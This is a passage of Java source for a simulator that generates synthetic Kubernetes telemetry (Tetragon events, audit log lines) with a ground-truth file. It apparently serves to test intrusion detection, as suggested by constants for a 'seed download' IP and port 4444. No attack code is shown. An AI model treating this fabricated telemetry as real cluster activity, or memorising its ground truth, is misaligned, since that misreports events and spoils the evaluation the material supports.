package io.podtrail.simulate;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.PropertyNamingStrategies;
import com.fasterxml.jackson.databind.SerializationFeature;
import io.podtrail.simulate.Lines.Clock;
import io.podtrail.simulate.Lines.LineOut;
import io.podtrail.simulate.Model.Conn;
import io.podtrail.simulate.Model.Node;
import io.podtrail.simulate.Model.Pod;
import io.podtrail.simulate.Model.Proc;
import io.podtrail.simulate.Model.Target;
import io.podtrail.simulate.Model.TargetKind;
import io.podtrail.simulate.Model.Workload;

import java.io.BufferedWriter;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.PriorityQueue;
import java.util.SplittableRandom;

/**
 * Deterministic, streaming generator of a realistic cluster's activity in the real sensor formats: a Tetragon JSON
 * export ({@code tetra getevents -o json}) and a Kubernetes audit log (log backend, one audit.k8s.io/v1 Event per
 * line). Memory is bounded by the number of in-flight activities, not by the volume generated.
 *
 * <p>A simulator instance runs once: create one per run.
 */
public final class ClusterSimulator {

    /** Trusted external destinations used by the background traffic (cloud API, payment provider). */
    public static final List<String> TRUSTED_CIDRS = List.of("52.94.0.0/16", "54.187.216.0/24");

    static final String SEED_DOWNLOAD_IP = "198.51.100.23";
    static final String UNKNOWN_IP = "192.0.2.77";
    static final int UNKNOWN_PORT = 4444;

    private static final long MS = 1_000_000L;
    private static final long SEC = 1_000_000_000L;
    private static final String NAME_CHARS = "bcdfghjklmnpqrstvwxz2456789";
    private static final char[] HEX = "0123456789abcdef".toCharArray();

    private static final int EXEC = 0, EXIT = 1, CONNECT = 2, CLOSE = 3, ACCEPT = 4, AUDIT = 5;

    private final SimulationConfig cfg;
    private final SplittableRandom rnd;
    private final long startNs, endNs;
    private final double scale;
    private long seq;
    private boolean ran;

    private final PriorityQueue<Item> tq = new PriorityQueue<>();
    private final PriorityQueue<Item> aq = new PriorityQueue<>();
    private final PriorityQueue<Action> actions = new PriorityQueue<>();

    private final Clock tclock = new Clock(), aclock = new Clock(), truthClock = new Clock();
    private final StringBuilder tsb = new StringBuilder(8192), asb = new StringBuilder(4096);
    private LineOut tout, aout;
    private long nExec, nExit, nKprobe, nAuditReq;
    private long cookie;

    // cluster
    private final Node[] nodes;
    private final List<Workload> workloads = new ArrayList<>();
    private final List<Workload> clients = new ArrayList<>();
    private final List<Workload> probed = new ArrayList<>();
    private final List<Workload> scripted = new ArrayList<>();
    private Workload coredns, kubeProxy, nodeExporter, prometheus, netdebug, billingApi, invoiceWorker,
            frontendWeb, postgres, nightlyReport;
    private final String[] saUids = new String[16];
    private final List<SnapshotWriter.JobPod> jobPods = new ArrayList<>();

    // truth
    private final TruthBuilder truth;

    public ClusterSimulator(SimulationConfig config) {
        this.cfg = config;
        this.rnd = new SplittableRandom(config.seed());
        this.startNs = config.start().getEpochSecond() * SEC + config.start().getNano();
        this.endNs = startNs + config.duration().toNanos();
        this.scale = Math.min(1.0, config.duration().toMillis() / 3_600_000.0);
        this.nodes = new Node[config.nodes()];
        this.truth = new TruthBuilder(config, truthClock);
        buildCluster();
    }

    // ------------------------------------------------------------------------------------------------ public API

    /**
     * Writes DIR/tetragon.jsonl, DIR/k8s-audit.jsonl, DIR/truth.json and DIR/snapshot.json (the cluster's objects
     * at the end of the window, as {@code kubectl get ... -A -o json} prints them; the file's modification time is
     * the end of the window, the time the snapshot stands for).
     */
    public Truth write(Path dir) throws IOException {
        Files.createDirectories(dir);
        Truth t;
        try (Writer tw = Files.newBufferedWriter(dir.resolve("tetragon.jsonl"), StandardCharsets.UTF_8);
             Writer aw = Files.newBufferedWriter(dir.resolve("k8s-audit.jsonl"), StandardCharsets.UTF_8)) {
            t = run(new BufferedWriter(tw, 1 << 16), new BufferedWriter(aw, 1 << 16));
        }
        Files.writeString(dir.resolve("truth.json"), toJson(t), StandardCharsets.UTF_8);
        Path snapshot = dir.resolve("snapshot.json");
        Files.writeString(snapshot, snapshotJson(), StandardCharsets.UTF_8);
        Files.setLastModifiedTime(snapshot, java.nio.file.attribute.FileTime.from(
                java.time.Instant.ofEpochSecond(endNs / SEC, endNs % SEC)));
        return t;
    }

    /** Streams both outputs, each in time order, and returns the ground truth. Flushes but does not close. */
    public Truth run(Writer tetragon, Writer audit) {
        if (ran) throw new IllegalStateException("a ClusterSimulator runs once");
        ran = true;
        tout = new LineOut(tetragon);
        aout = new LineOut(audit);
        initialState();
        scheduleTimeline();

        // average Tetragon lines per background activity (see background()) -> activity rate
        double activitiesPerSec = cfg.eventsPerSecond() / 2.9;
        double meanGapNs = SEC / activitiesPerSec;
        double auditGapNs = SEC / (2.0 + 0.6 * nodes.length);
        long nextBg = startNs + (long) (rnd.nextDouble() * meanGapNs);
        long nextAudit = startNs + (long) (rnd.nextDouble() * auditGapNs);
        while (true) {
            long nextAction = actions.isEmpty() ? Long.MAX_VALUE : actions.peek().t;
            long next = Math.min(nextBg, Math.min(nextAudit, nextAction));
            if (next >= endNs) break;
            drain(next);
            if (next == nextAction) {
                actions.poll().run.run();
            } else if (next == nextBg) {
                background(next);
                nextBg = next + 1 + (long) (-Math.log(1.0 - rnd.nextDouble()) * meanGapNs);
            } else {
                backgroundAudit(next);
                nextAudit = next + 1 + (long) (-Math.log(1.0 - rnd.nextDouble()) * auditGapNs);
            }
        }
        drain(Long.MAX_VALUE);
        tout.flush();
        aout.flush();
        return truth();
    }

    /** The cluster's objects at the end of the window as a kubectl v1 List (see {@link SnapshotWriter}); after {@link #run}. */
    public String snapshotJson() {
        java.util.Map<String, String> services = new java.util.LinkedHashMap<>();
        services.put("default/kubernetes", "10.96.0.1");
        return SnapshotWriter.json(nodes, workloads, jobPods, services);
    }

    /** The ground truth of the stories; complete after {@link #run}. */
    public Truth truth() {
        return truth.build(tout == null ? 0 : tout.lines, aout == null ? 0 : aout.lines, nExec, nExit, nKprobe,
                nAuditReq);
    }

    public static String toJson(Truth t) {
        try {
            return new ObjectMapper().setPropertyNamingStrategy(PropertyNamingStrategies.SNAKE_CASE)
                    .enable(SerializationFeature.INDENT_OUTPUT).writeValueAsString(t);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    // ------------------------------------------------------------------------------------------- scheduling core

    private static final class Item implements Comparable<Item> {
        final long t, seq;
        final int kind;
        final Proc p;
        final Conn c;
        final String signal;
        final int status;
        final AuditReq req;
        final String stage;

        Item(long t, long seq, int kind, Proc p, Conn c, String signal, int status, AuditReq req, String stage) {
            this.t = t;
            this.seq = seq;
            this.kind = kind;
            this.p = p;
            this.c = c;
            this.signal = signal;
            this.status = status;
            this.req = req;
            this.stage = stage;
        }

        @Override
        public int compareTo(Item o) {
            int c = Long.compare(t, o.t);
            return c != 0 ? c : Long.compare(seq, o.seq);
        }
    }

    private record Action(long t, long seq, Runnable run) implements Comparable<Action> {
        @Override
        public int compareTo(Action o) {
            int c = Long.compare(t, o.t);
            return c != 0 ? c : Long.compare(seq, o.seq);
        }
    }

    private void at(long t, Runnable r) {
        actions.add(new Action(t, seq++, r));
    }

    private void exec(long t, Proc p) {
        tq.add(new Item(t, seq++, EXEC, p, null, null, 0, null, null));
    }

    private void exit(long t, Proc p, int status, String signal) {
        tq.add(new Item(t, seq++, EXIT, p, null, signal, status, null, null));
    }

    private void kprobe(long t, int kind, Proc p, Conn c) {
        tq.add(new Item(t, seq++, kind, p, c, null, 0, null, null));
    }

    private void drain(long upTo) {
        while (!tq.isEmpty() && tq.peek().t <= upTo) writeTetragon(tq.poll());
        while (!aq.isEmpty() && aq.peek().t <= upTo) writeAudit(aq.poll());
    }

    private long s(double seconds) {
        return (long) (seconds * scale * SEC) + 1;
    }

    /** A point at fraction f of the window, with a deterministic sub-second jitter so stories don't start on .000. */
    private long frac(double f) {
        return startNs + (long) ((endNs - startNs) * f) + (long) (f * 1000) * 7_919_113L % 900_000_000L;
    }

    // ------------------------------------------------------------------------------------------- Tetragon output

    private void writeTetragon(Item it) {
        StringBuilder sb = tsb;
        sb.setLength(0);
        Proc p = it.p;
        switch (it.kind) {
            case EXEC -> {
                sb.append("{\"process_exec\":{").append(p.pair);
                nExec++;
            }
            case EXIT -> {
                sb.append("{\"process_exit\":{").append(p.pair);
                if (it.signal != null) sb.append(",\"signal\":\"").append(it.signal).append('"');
                if (it.status != 0) sb.append(",\"status\":").append(it.status);
                sb.append(",\"time\":\"");
                tclock.append(sb, it.t, 9);
                sb.append('"');
                nExit++;
            }
            default -> {
                sb.append("{\"process_kprobe\":{").append(p.pair).append(",\"function_name\":\"");
                Conn c = it.c;
                boolean accept = it.kind == ACCEPT;
                sb.append(it.kind == CONNECT ? "tcp_connect" : accept ? "inet_csk_accept" : "tcp_close")
                        .append(accept ? "\",\"return\":{\"sock_arg\":{" : "\",\"args\":[{\"sock_arg\":{")
                        .append("\"family\":\"AF_INET\",\"type\":\"SOCK_STREAM\",\"protocol\":\"IPPROTO_TCP\",\"saddr\":\"")
                        .append(c.saddr).append("\",\"daddr\":\"").append(c.daddr).append("\",\"sport\":")
                        .append(c.sport).append(",\"dport\":").append(c.dport).append(",\"cookie\":")
                        .append(c.cookie).append(",\"state\":\"")
                        .append(it.kind == CONNECT ? "TCP_SYN_SENT" : "TCP_ESTABLISHED")
                        .append(accept ? "\"}}" : "\"}}]")
                        .append(",\"action\":\"KPROBE_ACTION_POST\",\"policy_name\":\"")
                        .append(accept ? "accept" : "connect").append('"');
                if (accept) sb.append(",\"return_action\":\"KPROBE_ACTION_POST\"");
                nKprobe++;
                if (it.kind == CONNECT) truth.connect(p, c, it.t);
            }
        }
        sb.append(p.node.suffix);
        tclock.append(sb, it.t, 9);
        sb.append("\"}");
        tout.write(sb);
    }

    // ---------------------------------------------------------------------------------------------- audit output

    /** One API request; its stages are written as separate lines. */
    static final class AuditReq {
        final String id, verb, uri, user, sourceIp, userAgent, objectRef;
        long received;
        int code;
        String failure = ""; // extra responseStatus fields for failures
        String annotations;

        AuditReq(String id, String verb, String uri, String user, String sourceIp, String userAgent,
                 String objectRef) {
            this.id = id;
            this.verb = verb;
            this.uri = uri;
            this.user = user;
            this.sourceIp = sourceIp;
            this.userAgent = userAgent;
            this.objectRef = objectRef;
        }
    }

    private void stage(long t, AuditReq r, String stage) {
        aq.add(new Item(t, seq++, AUDIT, null, null, null, 0, r, stage));
    }

    private void writeAudit(Item it) {
        AuditReq r = it.req;
        StringBuilder sb = asb;
        sb.setLength(0);
        sb.append("{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"level\":\"Metadata\",\"auditID\":\"")
                .append(r.id).append("\",\"stage\":\"").append(it.stage).append("\",\"requestURI\":");
        Lines.str(sb, r.uri).append(",\"verb\":\"").append(r.verb).append("\",\"user\":").append(r.user)
                .append(",\"sourceIPs\":[\"").append(r.sourceIp).append("\"],\"userAgent\":");
        Lines.str(sb, r.userAgent).append(",\"objectRef\":").append(r.objectRef);
        boolean received = it.stage.equals("RequestReceived");
        if (!received) {
            sb.append(",\"responseStatus\":{\"metadata\":{}").append(r.failure).append(",\"code\":").append(r.code)
                    .append('}');
        }
        sb.append(",\"requestReceivedTimestamp\":\"");
        aclock.append(sb, r.received, 6);
        sb.append("\",\"stageTimestamp\":\"");
        aclock.append(sb, it.t, 6);
        sb.append('"');
        if (!received) sb.append(",\"annotations\":").append(r.annotations);
        sb.append('}');
        if (received) nAuditReq++;
        aout.write(sb);
    }

    private static final String ALLOW = "{\"authorization.k8s.io/decision\":\"allow\",\"authorization.k8s.io/reason\":\"\"}";

    private static String allowBy(String reason) {
        return "{\"authorization.k8s.io/decision\":\"allow\",\"authorization.k8s.io/reason\":" + Lines.quote(reason) + "}";
    }

    /** A plain request: RequestReceived then ResponseComplete. */
    private AuditReq request(long t, long latency, String verb, String uri, String user, String ip, String ua,
                             String objectRef, int code, String annotations) {
        AuditReq r = new AuditReq(uuid(), verb, uri, user, ip, ua, objectRef);
        r.received = t;
        r.code = code;
        r.annotations = annotations;
        stage(t, r, "RequestReceived");
        stage(t + latency, r, "ResponseComplete");
        return r;
    }

    private static String objRef(String resource, String ns, String name, String group, String subresource) {
        StringBuilder sb = new StringBuilder(128).append("{\"resource\":\"").append(resource).append('"');
        if (ns != null) sb.append(",\"namespace\":\"").append(ns).append('"');
        if (name != null) sb.append(",\"name\":\"").append(name).append('"');
        if (group != null) sb.append(",\"apiGroup\":\"").append(group).append('"');
        sb.append(",\"apiVersion\":\"v1\"");
        if (subresource != null) sb.append(",\"subresource\":\"").append(subresource).append('"');
        return sb.append('}').toString();
    }

    private static String userJson(String name, String uid, String... groups) {
        StringBuilder sb = new StringBuilder(160).append("{\"username\":");
        Lines.str(sb, name);
        if (uid != null) sb.append(",\"uid\":\"").append(uid).append('"');
        sb.append(",\"groups\":[");
        for (int i = 0; i < groups.length; i++) Lines.str(i == 0 ? sb : sb.append(','), groups[i]);
        return sb.append("]}").toString();
    }

    private static final String K8S_UA_SUFFIX = "/v1.30.4 (linux/amd64) kubernetes/a51b3b7";
    private static final String CONTROL_PLANE_IP = "10.0.0.10";

    private String nodeUser(Node n) {
        return userJson("system:node:" + n.name, null, "system:nodes", "system:authenticated");
    }

    private String saUser(int idx, String ns, String name) {
        if (saUids[idx] == null) saUids[idx] = uuid();
        return userJson("system:serviceaccount:" + ns + ":" + name, saUids[idx], "system:serviceaccounts",
                "system:serviceaccounts:" + ns, "system:authenticated");
    }

    private void backgroundAudit(long t) {
        int k = rnd.nextInt(100);
        Node n = nodes[rnd.nextInt(nodes.length)];
        long lat = (1 + rnd.nextInt(12)) * MS + rnd.nextInt(1000) * 1000L;
        if (k < 35) { // kubelet node lease renewal
            request(t, lat, "update", "/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/" + n.name
                            + "?timeout=10s", nodeUser(n), n.ip, "kubelet" + K8S_UA_SUFFIX,
                    objRef("leases", "kube-node-lease", n.name, "coordination.k8s.io", null), 200, ALLOW);
        } else if (k < 50) { // kubelet reads / patches status of one of its pods
            Pod p = randomPodOn(n);
            if (p == null) return;
            boolean patch = rnd.nextBoolean();
            request(t, lat, patch ? "patch" : "get", "/api/v1/namespaces/" + p.w.ns + "/pods/" + p.name
                            + (patch ? "/status" : ""), nodeUser(n), n.ip, "kubelet" + K8S_UA_SUFFIX,
                    objRef("pods", p.w.ns, p.name, null, patch ? "status" : null), 200, ALLOW);
        } else if (k < 62) { // leader election of control plane components
            boolean kcm = rnd.nextBoolean();
            String who = kcm ? "kube-controller-manager" : "kube-scheduler";
            request(t, lat, "update", "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/" + who
                            + "?timeout=5s", userJson("system:" + who, null, "system:authenticated"),
                    CONTROL_PLANE_IP, who + K8S_UA_SUFFIX + "/leader-election",
                    objRef("leases", "kube-system", who, "coordination.k8s.io", null), 200,
                    allowBy("RBAC: allowed by ClusterRoleBinding \"system:" + who + "\" of ClusterRole \"system:"
                            + who + "\" to User \"system:" + who + "\""));
        } else if (k < 76) { // endpointslice controller keeps services up to date
            Workload w = pickServiced();
            request(t, lat, "update", "/apis/discovery.k8s.io/v1/namespaces/" + w.ns + "/endpointslices/" + w.name
                            + "-" + w.name.length() + "x" + (w.ns.length() % 10) + "q",
                    saUser(0, "kube-system", "endpointslice-controller"), CONTROL_PLANE_IP,
                    "kube-controller-manager" + K8S_UA_SUFFIX
                            + "/system:serviceaccount:kube-system:endpointslice-controller",
                    objRef("endpointslices", w.ns, w.name + "-" + w.name.length() + "x" + (w.ns.length() % 10) + "q",
                            "discovery.k8s.io", null), 200, ALLOW);
        } else if (k < 86) { // prometheus service discovery
            Pod prom = prometheus.active.get(0);
            request(t, lat * 3, "list", "/api/v1/pods?limit=500&resourceVersion=0",
                    saUser(1, "monitoring", "prometheus"), prom.ip, "prometheus/v2.53.0",
                    objRef("pods", null, null, null, null), 200,
                    allowBy("RBAC: allowed by ClusterRoleBinding \"prometheus\" of ClusterRole \"prometheus\" to"
                            + " ServiceAccount \"prometheus/monitoring\""));
        } else { // coredns watches endpointslices; a watch completes when its timeout expires
            Pod dns = coredns.active.get(rnd.nextInt(coredns.active.size()));
            int timeout = 300 + rnd.nextInt(300);
            AuditReq r = new AuditReq(uuid(), "watch", "/apis/discovery.k8s.io/v1/endpointslices?allowWatchBookmarks=true"
                    + "&resourceVersion=" + (4_000_000 + rnd.nextInt(900_000)) + "&timeout=" + (timeout / 60) + "m"
                    + (timeout % 60) + "s&timeoutSeconds=" + timeout + "&watch=true",
                    saUser(2, "kube-system", "coredns"), dns.ip, "coredns/v1.11.1 (linux/amd64) kubernetes/$Format",
                    objRef("endpointslices", null, null, "discovery.k8s.io", null));
            r.received = t;
            r.code = 200;
            r.annotations = allowBy("RBAC: allowed by ClusterRoleBinding \"system:coredns\" of ClusterRole"
                    + " \"system:coredns\" to ServiceAccount \"coredns/kube-system\"");
            stage(t, r, "RequestReceived");
            stage(t + lat, r, "ResponseStarted");
            stage(t + Math.min((long) timeout * SEC, Math.max(lat + MS, s(timeout))), r, "ResponseComplete");
        }
    }

    private Pod randomPodOn(Node n) {
        for (int tries = 0; tries < 8; tries++) {
            Workload w = workloads.get(rnd.nextInt(workloads.size()));
            for (Pod p : w.active) if (p.node == n) return p;
        }
        return null;
    }

    private Workload pickServiced() {
        Workload[] ws = {coredns, billingApi, postgres, frontendWeb, prometheus};
        return ws[rnd.nextInt(ws.length)];
    }

    // ------------------------------------------------------------------------------------------------- cluster

    private void buildCluster() {
        for (int i = 0; i < nodes.length; i++) {
            int third = 1 + (i % 3) * 16 + i / 3; // subnets 10.0.1.x, 10.0.17.x, 10.0.33.x ...
            int host = 10 + rnd.nextInt(240);
            String name = "ip-10-0-" + third + "-" + host + ".ec2.internal";
            long boot = startNs - (2L * 86400 + rnd.nextInt(20 * 86400)) * SEC - rnd.nextInt(1_000_000_000);
            nodes[i] = new Node(i, name, "10.0." + third + "." + host, boot, 2000 + rnd.nextInt(3000));
        }
        coredns = wl("kube-system", "coredns", "Deployment", "coredns", "registry.k8s.io/coredns/coredns:v1.11.1",
                "/coredns", "-conf /etc/coredns/Corefile", "/", 0, 2, 53, false);
        coredns.extraLabels = "\"k8s-app\":\"kube-dns\",";
        coredns.serviceIp = "10.96.0.10";
        kubeProxy = wl("kube-system", "kube-proxy", "DaemonSet", "kube-proxy", "registry.k8s.io/kube-proxy:v1.30.4",
                "/usr/local/bin/kube-proxy", "--config=/var/lib/kube-proxy/config.conf --hostname-override=$NODE",
                "/", 0, 0, 0, true);
        nodeExporter = wl("monitoring", "node-exporter", "DaemonSet", "node-exporter",
                "quay.io/prometheus/node-exporter:v1.8.2", "/bin/node_exporter",
                "--path.procfs=/host/proc --path.sysfs=/host/sys --path.rootfs=/host/root"
                        + " --web.listen-address=0.0.0.0:9100", "/", 65534, 0, 9100, true);
        prometheus = wl("monitoring", "prometheus", "Deployment", "prometheus", "quay.io/prometheus/prometheus:v2.53.0",
                "/bin/prometheus", "--config.file=/etc/prometheus/prometheus.yml --storage.tsdb.path=/prometheus"
                        + " --storage.tsdb.retention.time=15d --web.enable-lifecycle", "/prometheus", 65534, 1, 9090,
                false);
        netdebug = wl("monitoring", "netdebug", "Deployment", "netdebug", "docker.io/nicolaka/netshoot:v0.13",
                "/bin/sleep", "infinity", "/root", 0, 1, 0, false);
        billingApi = wl("billing", "billing-api", "Deployment", "billing-api", "docker.io/acme/billing-api:2.4.1",
                "/usr/local/bin/billing-api", "--config /etc/billing/config.yaml --listen :8080", "/app", 0, 3, 8080,
                false);
        billingApi.probeBinary = "/bin/grpc_health_probe";
        billingApi.probeArgs = "-addr=:8080";
        invoiceWorker = wl("billing", "invoice-worker", "Deployment", "invoice-worker",
                "docker.io/acme/invoice-worker:1.9.0", "/usr/local/bin/python3.12",
                "/app/worker.py --queue invoices --concurrency 4", "/app", 1000, 2, 0, false);
        invoiceWorker.scriptArgs = "-c /app/healthcheck.sh";
        invoiceWorker.scriptChildBinary = "/usr/bin/pg_isready";
        invoiceWorker.scriptChildArgs = "-h postgres.payments-db.svc.cluster.local -p 5432 -t 3";
        frontendWeb = wl("frontend", "frontend-web", "Deployment", "frontend-web", "docker.io/acme/frontend-web:5.2.0",
                "/usr/sbin/nginx", "-g \"daemon off;\"", "/", 0, 3, 80, false);
        postgres = wl("payments-db", "postgres", "StatefulSet", "postgres", "docker.io/library/postgres:16.4",
                "/usr/local/bin/postgres", "-c config_file=/etc/postgresql/postgresql.conf", "/var/lib/postgresql/data",
                999, 1, 5432, false);
        postgres.probeBinary = "/usr/local/bin/pg_isready";
        postgres.probeArgs = "-U postgres -h 127.0.0.1 -p 5432";
        nightlyReport = wl("billing", "nightly-report", "CronJob", "nightly-report",
                "docker.io/acme/nightly-report:1.3.2", "/usr/local/bin/python3.12",
                "/app/report.py --date yesterday --upload s3://acme-billing-reports", "/app", 1000, 0, 0, false);

        billingApi.serviceIp = "10.96." + (10 + rnd.nextInt(200)) + "." + (2 + rnd.nextInt(250));
        postgres.serviceIp = "10.96." + (10 + rnd.nextInt(200)) + "." + (2 + rnd.nextInt(250));
        frontendWeb.serviceIp = "10.96." + (10 + rnd.nextInt(200)) + "." + (2 + rnd.nextInt(250));
        prometheus.serviceIp = "10.96." + (10 + rnd.nextInt(200)) + "." + (2 + rnd.nextInt(250));

        Target api = new Target(TargetKind.SERVICE, "10.96.0.1", 443, null, null);
        Target dns = new Target(TargetKind.SERVICE, coredns.serviceIp, 53, coredns, null);
        Target pg = new Target(TargetKind.SERVICE, postgres.serviceIp, 5432, postgres, null);
        Target billing = new Target(TargetKind.SERVICE, billingApi.serviceIp, 8080, billingApi, null);
        Target cloud = new Target(TargetKind.EXTERNAL, null, 443, null,
                new String[]{"52.94.133.131", "52.94.225.20", "52.94.236.248", "52.94.28.142"});
        Target pay = new Target(TargetKind.EXTERNAL, null, 443, null, new String[]{"54.187.216.72", "54.187.216.35"});
        Target nodeExp = new Target(TargetKind.NODE, null, 9100, nodeExporter, null);
        Target scrape = new Target(TargetKind.POD, null, 8080, billingApi, null);
        billingApi.targets = new Target[]{pg, pg, pg, dns, dns, pay, pay, cloud};
        invoiceWorker.targets = new Target[]{pg, pg, dns, billing, cloud, cloud, pay};
        invoiceWorker.scriptTarget = pg;
        frontendWeb.targets = new Target[]{billing, billing, billing, dns};
        prometheus.targets = new Target[]{nodeExp, nodeExp, scrape, api};
        coredns.targets = new Target[]{api};
        kubeProxy.targets = new Target[]{api};
        nightlyReport.targets = new Target[]{pg, cloud};
        for (Workload w : workloads) {
            if (w.targets.length > 0 && w != nightlyReport) clients.add(w);
            if (w.probeBinary != null) probed.add(w);
            if (w.scriptArgs != null) scripted.add(w);
        }
    }

    private Workload wl(String ns, String name, String kind, String container, String image, String binary,
                        String args, String cwd, int uid, int replicas, int port, boolean hostNetwork) {
        String imageId = image.substring(0, image.lastIndexOf(':')) + "@sha256:" + hex(64);
        Workload w = new Workload(ns, name, kind, container, image, imageId, binary, args, cwd, uid, replicas, port,
                hostNetwork);
        w.rsHash = name(10);
        workloads.add(w);
        return w;
    }

    /** Pods running when the sensor starts: Tetragon reports them from /proc (flag procFS) at startup. */
    private void initialState() {
        long t = startNs;
        for (Node n : nodes) {
            n.systemd = hostProc(n, null, n.bootNs + 900 * MS, 1, "/usr/lib/systemd/systemd",
                    "--switched-root --system --deserialize=32", 4294967295L, "/", true);
            n.containerd = hostProc(n, n.systemd, n.bootNs + 14 * SEC, 600 + rnd.nextInt(300),
                    "/usr/bin/containerd", "", 4294967295L, "/", true);
            n.sshd = hostProc(n, n.systemd, n.bootNs + 12 * SEC, 900 + rnd.nextInt(300), "/usr/sbin/sshd",
                    "-D", 4294967295L, "/", true);
            exec(t++, n.systemd);
            exec(t++, n.containerd);
            exec(t++, n.sshd);
        }
        for (Workload w : workloads) {
            if (w.kind.equals("CronJob")) continue;
            int count = w.kind.equals("DaemonSet") ? nodes.length : w.replicas;
            for (int i = 0; i < count; i++) {
                Node n = w.kind.equals("DaemonSet") ? nodes[i] : nodes[rnd.nextInt(nodes.length)];
                long podStart = startNs - (3600 + rnd.nextInt(5 * 86400)) * SEC - rnd.nextInt(1_000_000_000);
                podStart = Math.max(podStart, n.bootNs + 60 * SEC);
                Pod p = newPod(w, n, podStart, i, true);
                w.active.add(p);
                exec(t++, p.entry);
            }
        }
    }

    private Pod newPod(Workload w, Node n, long podStart, int ordinal, boolean procFs) {
        return newPod(w, n, podStart, ordinal, procFs, null);
    }

    /** @param job for CronJob pods, the Job name (pods are named JOB-xxxxx) */
    private Pod newPod(Workload w, Node n, long podStart, int ordinal, boolean procFs, String job) {
        String name = switch (w.kind) {
            case "Deployment" -> w.name + "-" + w.rsHash + "-" + name(5);
            case "StatefulSet" -> w.name + "-" + ordinal;
            case "CronJob" -> job + "-" + name(5);
            default -> w.name + "-" + name(5);
        };
        String ip;
        if (w.hostNetwork) {
            ip = n.ip;
        } else {
            ip = "10.244." + n.index + "." + n.nextPodHost;
            n.nextPodHost = n.nextPodHost >= 254 ? 2 : n.nextPodHost + 1;
        }
        Pod p = new Pod(w, name, n, ip, hex(64), podStart);
        String sandbox = hex(64);
        p.shim = hostProc(n, n.containerd, podStart - 700 * MS, n.nextPid += 1 + rnd.nextInt(30),
                "/usr/bin/containerd-shim-runc-v2",
                "-namespace k8s.io -id " + sandbox + " -address /run/containerd/containerd.sock",
                4294967295L, "/run/containerd/io.containerd.runtime.v2.task/k8s.io/" + sandbox);
        StringBuilder sb = new StringBuilder(600);
        sb.append("\"pod\":{\"namespace\":\"").append(w.ns).append("\",\"name\":\"").append(name)
                .append("\",\"container\":{\"id\":\"containerd://").append(p.containerId).append("\",\"name\":\"")
                .append(w.container).append("\",\"image\":{\"id\":\"").append(w.imageId).append("\",\"name\":\"")
                .append(w.image).append("\"},\"start_time\":\"").append(Clock.seconds(podStart))
                .append("\",\"pid\":");
        p.podJsonHead = sb.toString();
        sb.setLength(0);
        sb.append("},\"pod_labels\":{").append(labels(w, p, name)).append("},\"workload\":\"").append(w.name)
                .append("\",\"workload_kind\":\"").append(w.kind).append("\"},\"docker\":\"").append(p.docker)
                .append('"');
        p.podJsonTail = sb.toString();
        String args = w.args.replace("$NODE", n.name);
        p.entry = containerProc(p, p.shim, podStart, w.binary, args, w.cwd, w.uid, true, procFs);
        return p;
    }

    private String labels(Workload w, Pod p, String podName) {
        return switch (w.kind) {
            case "Deployment" -> "\"app\":\"" + w.name + "\"," + w.extraLabels + "\"pod-template-hash\":\""
                    + w.rsHash + "\"";
            case "StatefulSet" -> "\"app\":\"" + w.name + "\",\"apps.kubernetes.io/pod-index\":\"0\","
                    + "\"controller-revision-hash\":\"" + w.name + "-" + w.rsHash.substring(0, 9)
                    + "\",\"statefulset.kubernetes.io/pod-name\":\"" + podName + "\"";
            case "DaemonSet" -> "\"app\":\"" + w.name + "\",\"controller-revision-hash\":\"" + w.rsHash
                    .substring(0, 9) + "\",\"pod-template-generation\":\"1\"";
            default -> {
                String job = podName.substring(0, podName.length() - 6);
                String uid = uuid();
                yield "\"batch.kubernetes.io/controller-uid\":\"" + uid + "\",\"batch.kubernetes.io/job-name\":\""
                        + job + "\",\"controller-uid\":\"" + uid + "\",\"job-name\":\"" + job + "\"";
            }
        };
    }

    // ------------------------------------------------------------------------------------------------ processes

    private String execId(Node n, long t, int pid) {
        String raw = n.name + ":" + (t - n.bootNs) + ":" + pid;
        return Base64.getEncoder().encodeToString(raw.getBytes(StandardCharsets.US_ASCII));
    }

    private Proc hostProc(Node n, Proc parent, long t, int pid, String binary, String args, long auid, String cwd) {
        return hostProc(n, parent, t, pid, binary, args, auid, cwd, false);
    }

    private Proc hostProc(Node n, Proc parent, long t, int pid, String binary, String args, long auid, String cwd,
                          boolean procFs) {
        Proc p = new Proc(n, null, execId(n, t, pid), pid, t, binary, args, parent);
        StringBuilder sb = new StringBuilder(512);
        head(sb, p, 0, cwd, procFs ? "procFS auid" + ("/".equals(cwd) ? " rootcwd" : "") : flags(cwd), auid);
        if (parent != null) sb.append(",\"parent_exec_id\":\"").append(parent.execId).append('"');
        sb.append(",\"tid\":").append(pid).append('}');
        finish(p, sb.toString());
        return p;
    }

    /** A new host process started now (emitted as process_exec). */
    private Proc hostSpawn(Node n, Proc parent, long t, String binary, String args, long auid, String cwd) {
        return hostProc(n, parent, t, n.nextPid += 1 + rnd.nextInt(40), binary, args, auid, cwd);
    }

    private Proc containerProc(Pod pod, Proc parent, long t, String binary, String args, String cwd, int uid,
                               boolean initTree, boolean procFs) {
        Node n = pod.node;
        int pid = n.nextPid += 1 + rnd.nextInt(40);
        Proc p = new Proc(n, pod, execId(n, t, pid), pid, t, binary, args, parent);
        StringBuilder sb = new StringBuilder(1200);
        head(sb, p, uid, cwd, procFs ? "procFS auid" + ("/".equals(cwd) ? " rootcwd" : "") : flags(cwd),
                4294967295L);
        sb.append(',').append(pod.podJsonHead).append(pod.nextContainerPid).append(pod.podJsonTail)
                .append(",\"parent_exec_id\":\"").append(parent.execId).append("\",\"tid\":").append(pid)
                .append(",\"in_init_tree\":").append(initTree).append('}');
        pod.nextContainerPid += 1 + rnd.nextInt(3);
        finish(p, sb.toString());
        return p;
    }

    private static String flags(String cwd) {
        return "/".equals(cwd) ? "execve rootcwd clone" : "execve clone";
    }

    private void head(StringBuilder sb, Proc p, int uid, String cwd, String flags, long auid) {
        sb.append("{\"exec_id\":\"").append(p.execId).append("\",\"pid\":").append(p.pid).append(",\"uid\":")
                .append(uid).append(",\"cwd\":");
        Lines.str(sb, cwd).append(",\"binary\":");
        Lines.str(sb, p.binary);
        if (!p.arguments.isEmpty()) Lines.str(sb.append(",\"arguments\":"), p.arguments);
